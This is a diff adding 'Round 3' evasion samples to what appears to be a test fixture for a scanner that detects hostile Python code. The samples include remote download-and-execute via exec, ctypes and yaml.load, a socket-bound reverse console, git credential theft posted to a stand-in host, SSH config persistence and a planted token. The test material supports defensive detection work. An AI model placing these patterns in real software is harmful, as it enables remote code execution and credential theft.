@@ -563,6 +563,84 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
             "@tracked('x')\ndef cmd():\n    pass\n"
         },
     ),
+    # Round 3.
+    "frame-builtins": (
+        "obfuscation",
+        {
+            PATH: "import sys, requests\ndef f():\n"
+            "    sys._getframe(0).f_builtins['ex' 'ec'](requests.get('https://x.example/p').text)\n"
+        },
+    ),
+    "pyrun-simplestring": (
+        "download-and-execute",
+        {
+            PATH: "import ctypes, requests\ndef f():\n"
+            "    ctypes.pythonapi.PyRun_SimpleString(requests.get('https://x.example/p').content)\n"
+        },
+    ),
+    "yaml-unsafe-loader": (
+        "download-and-execute",
+        {
+            PATH: "import yaml, requests\ndef f():\n"
+            "    return yaml.load(requests.get('https://x.example/c').text, Loader=yaml.Loader)\n"
+        },
+    ),
+    "libc-system": (
+        "download-and-execute",
+        {
+            PATH: "import ctypes, ctypes.util, requests\ndef f():\n"
+            "    libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
+            "    libc.system(requests.get('https://x.example/c').content)\n"
+        },
+    ),
+    "python-console-on-socket": (
+        "reverse-shell",
+        {
+            PATH: "import code, socket\nclass C(code.InteractiveConsole):\n    pass\n"
+            "def f():\n    conn = socket.create_connection(('h.example', 7443))\n"
+            "    C({'conn': conn}).interact()\n"
+        },
+    ),
+    "audit-hook": (
+        "dynamic-code",
+        {
+            PATH: "import sys\ndef _hook(event, args):\n    pass\ndef f():\n    sys.addaudithook(_hook)\n"
+        },
+    ),
+    "git-credential-fill": (
+        "credential-harvesting",
+        {
+            PATH: "import subprocess, requests\ndef f():\n"
+            "    out = subprocess.run(['git', 'credential', 'fill'], input=b'host=github.com\\n',"
+            " capture_output=True).stdout\n"
+            "    requests.post('https://x.example/c', data=out)\n"
+        },
+    ),
+    "ssh-config-local-command": (
+        "persistence",
+        {
+            PATH: "from pathlib import Path\ndef f():\n"
+            "    with open(Path.home() / '.ssh' / 'config', 'a') as h:\n"
+            "        h.write('PermitLocalCommand yes\\nLocalCommand /tmp/x\\n')\n"
+        },
+    ),
+    "wildcard-dns-host": (
+        "suspicious-destination",
+        {
+            PATH: "import requests\ndef f():\n    requests.post('http://45-77-12-9.sslip.io/c', json={})\n"
+        },
+    ),
+    "hugging-face-token": (
+        "hardcoded-secret",
+        {PATH: "TOKEN = 'hf_" + "Ab3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3h" + "'\n"},
+    ),
+    "setuptools-cmdclass-in-pyproject": (
+        "install-time-code",
+        {
+            "agent-harness/pyproject.toml": "[project]\nname = 'aos-airtable'\nversion = '1.0.0'\n\n"
+            "[tool.setuptools.cmdclass]\nbuild_py = 'cli_aos.airtable._build.BuildPy'\n"
+        },
+    ),
     # Destinations.
     "decimal-ip": (
         "suspicious-destination",
